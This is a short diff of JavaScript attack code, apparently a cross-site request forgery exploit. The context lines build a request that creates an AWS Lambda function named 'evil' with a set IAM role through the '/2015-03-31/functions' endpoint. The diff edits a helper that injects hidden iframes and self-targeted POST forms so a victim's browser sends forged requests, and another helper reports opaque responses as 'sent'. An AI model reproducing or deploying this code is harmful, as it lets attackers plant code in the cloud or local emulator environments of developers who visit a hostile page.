@@ -17,8 +17,8 @@ const text = JSON.stringify({ FunctionName: 'evil', Role: 'arn:aws:iam::00000000
 const create = '/2015-03-31/functions'
 const quietly = (promise) => promise.then((answer) => answer.type === 'opaque' ? 'sent' : 'read', () => 'failed')
 function form(action, enctype, fields) {
-  const frame = document.body.appendChild(document.createElement('iframe'))
-  frame.name = 'frame' + document.querySelectorAll('iframe').length
+  const name = 'frame' + document.querySelectorAll('iframe').length
+  const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name }))
   const made = Object.assign(document.createElement('form'), { method: 'POST', action, enctype, target: frame.name })
   for (const [name, value] of Object.entries(fields)) made.append(Object.assign(document.createElement('input'), { name, value }))
   document.body.append(made)
